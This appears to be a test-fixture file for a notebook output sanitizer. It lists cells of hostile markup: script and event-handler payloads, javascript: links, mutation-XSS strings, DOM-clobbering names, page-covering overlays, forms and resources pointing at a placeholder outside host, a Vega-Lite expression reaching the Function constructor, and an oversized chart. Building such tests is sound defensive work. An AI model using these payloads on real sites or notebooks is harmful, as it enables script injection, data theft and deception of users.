/** Cells that display what would load, act or lead away. */

import { type Cells, chart, shows } from "./cell.js";

/** Markup that loads, acts or leads away. */
export const markup: Cells = {
  "pictures from elsewhere": shows(
    `<img src="\${away}/img"><img srcset="\${away}/srcset 1x"><picture><source srcset="\${away}/source"><img></picture><input type="image" src="\${away}/input"><body background="\${away}/body"><table background="\${away}/table"><tr><td>x</table>`,
  ),
  "films and sounds": shows(
    `<video src="\${away}/video" poster="\${away}/poster" autoplay></video><audio src="\${away}/audio" autoplay></audio><track src="\${away}/track"><embed src="\${away}/embed"><object data="\${away}/object"></object>`,
  ),
  "drawings from elsewhere": shows(
    `<svg><image href="\${away}/svg-image"/><image xlink:href="\${away}/xlink"/><use href="\${away}/use#x"/><filter id="f"><feImage href="\${away}/fe"/></filter><rect width="9" height="9" fill="url(\${away}/fill#x)" filter="url(\${away}/filter#x)"/><foreignObject><iframe src="\${away}/foreign"></iframe></foreignObject><style>rect{fill:url(\${away}/svg-style)}</style></svg>`,
  ),
  "styles from elsewhere": shows(
    `<link rel="stylesheet" href="\${away}/css"><link rel="preload" as="image" href="\${away}/preload"><link rel="dns-prefetch" href="\${away}"><link rel="prefetch" href="\${away}/prefetch"><style>@import "\${away}/import"; * { background: url(\${away}/style) }</style><p style="background:url(\${away}/attribute);cursor:url(\${away}/cursor),auto;list-style-image:url(\${away}/list);content:url(\${away}/content)">styled</p>`,
  ),
  "frames and refreshes": shows(
    `<iframe src="\${away}/frame"></iframe><iframe srcdoc="<script>parent.harm()</script>"></iframe><meta http-equiv="refresh" content="0;url=\${away}/refresh"><base href="\${away}/"><frameset><frame src="\${away}/frameset"></frameset>`,
  ),
  "forms that send": shows(
    `<form action="\${away}/form" method="post"><input name="secret" value="1" autofocus><button class="bait">Run</button></form><form id="one"></form><button class="bait" form="one" formaction="\${away}/formaction">x</button>`,
  ),
  "links that lead away": shows(
    `<a class="bait" href="\${away}/link" ping="\${away}/ping">x</a><a class="bait" href="javascript:harm()">x</a><a class="bait" href="data:text/html,<script>harm()</script>">x</a><svg><a class="bait" href="\${away}/svg-link"><text y="9">x</text></a></svg><map><area class="bait" href="\${away}/area"></map><math><mtext class="bait" href="\${away}/math">x</mtext></math>`,
  ),
  scripts: shows(
    `<script>harm()</script><script src="\${away}/script"></script><svg><script>harm()</script></svg><script type="module" src="\${away}/module"></script>`,
  ),
  handlers: shows(
    `<img src="x" onerror="harm()"><svg onload="harm()"></svg><details open ontoggle="harm()"><summary>x</summary></details><input autofocus onfocus="harm()"><p class="bait" onclick="harm()" onpointerover="harm()">x</p><svg><animate onbegin="harm()" attributeName="x" dur="1s"/></svg><video><source onerror="harm()"></video><style onload="harm()"></style>`,
  ),
  "markup that changes when it is read again": shows(
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=harm()&gt;"><form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=harm() src=1>"></form><noscript><p title="</noscript><img src=x onerror=harm()>"></noscript>`,
  ),
  "names that stand in the page's way": shows(
    `<form id="theme" name="body"><input name="attributes"><input name="parentNode"></form><img name="getElementById"><a id="words"></a><a id="words" name="run"></a><div id="live-cell-1"></div><p class="run-state running" role="alert">x</p>`,
  ),
  "a cover over the page": shows(
    '<div style="position:fixed;inset:0;z-index:2147483647;background:white">cover</div><dialog open style="position:fixed;inset:0">cover</dialog><div popover style="display:block;position:absolute;inset:-99em">cover</div>',
  ),
  "an SVG output": {
    code: `display({ "text/plain": "svg", "image/svg+xml": \`<svg xmlns="http://www.w3.org/2000/svg" onload="harm()"><script>harm()</script><image href="\${away}/p.png"/><a class="bait" href="\${away}/a"><text y="9">x</text></a></svg>\` });`,
  },
};

/** Charts that load, act, or never end. */
export const charts: Cells = {
  "a chart with data from elsewhere": chart('data: { url: away + "/data.json" }, mark: "point"'),
  "a chart with pictures from elsewhere": chart(
    'data: { values: [{}] }, mark: { type: "image", url: away + "/mark.png", width: 9, height: 9 }',
  ),
  "a chart whose colour loads": chart(
    'data: { values: [{ a: 1 }] }, mark: { type: "bar", fill: "url(" + away + "/fill.svg#x)" }',
  ),
  "a chart whose marks are links": chart(
    'data: { values: [{ a: 1 }] }, mark: { type: "bar", href: away + "/href" }, encoding: { x: { field: "a" } }',
  ),
  "a chart whose formula reaches out": chart(
    'data: { values: [{ a: 1 }] }, mark: "bar", transform: [{ calculate: "datum.constructor.constructor(\'harm()\')()", as: "b" }], encoding: { x: { field: "b" } }',
  ),
  "a chart with a shape from elsewhere": chart(
    'data: { values: [{ a: 1 }] }, mark: "geoshape", projection: { type: "mercator" }, usermeta: { embedOptions: { loader: away } }',
  ),
  "a chart of very much": chart(
    'data: { sequence: { start: 0, stop: 3e6, as: "x" } }, mark: "point", encoding: { x: { field: "x" }, y: { field: "x" } }',
  ),
  "a chart that is none": {
    code: 'display({ "text/plain": "x", "application/vnd.vegalite.v5+json": { mark: 7, layer: [null] } });',
  },
};
